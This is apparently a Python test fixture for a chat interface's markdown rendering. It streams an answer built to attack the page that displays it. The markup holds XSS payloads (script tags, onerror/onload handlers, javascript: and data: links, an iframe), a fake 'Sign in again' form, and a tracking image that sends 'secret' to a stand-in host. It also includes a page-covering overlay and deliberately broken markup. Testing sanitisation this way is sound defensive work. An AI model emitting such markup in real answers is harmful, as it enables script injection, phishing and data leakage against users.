"""An answer that attacks the page it is shown on."""

MARK = "the end of the attack"
LONG_LINE = "A" * 100_000
MARKUP = """# Title

<script>window.attacked = "script"</script>
<img src="x" onerror="window.attacked = 'onerror'">
<svg onload="window.attacked = 'onload'"><script>window.attacked = "svg"</script></svg>
<iframe srcdoc="<script>parent.attacked = 'iframe'</script>"></iframe>
<style>body { display: none !important }</style>
<form action="https://elsewhere.example/"><input name="q"><button>Sign in again</button></form>
<a href="javascript:window.attacked = 'raw link'">raw link</a>

[markdown link](javascript:window.attacked='link')
[data link](data:text/html,<script>window.attacked='data'</script>) [fine link](https://elsewhere.example/fine)
![picture](https://elsewhere.example/tracked.png?said=secret) <img src="https://elsewhere.example/raw.png">

<div style="position: fixed; inset: 0; z-index: 9999; background: red" id="app">over everything</div>

| broken | table
|--
| a | b | c

```html
<script>window.attacked = "code"</script>
```

**never closed `and [neither](is this
"""
WORDS = (
    *(MARKUP[start : start + 40] for start in range(0, len(MARKUP), 40)),
    "\n\n```\n",
    *(LONG_LINE[start : start + 2_000] for start in range(0, len(LONG_LINE), 2_000)),
    "\n```\n\n",
    LONG_LINE[:20_000],
    f"\n\n{MARK}\n",
)
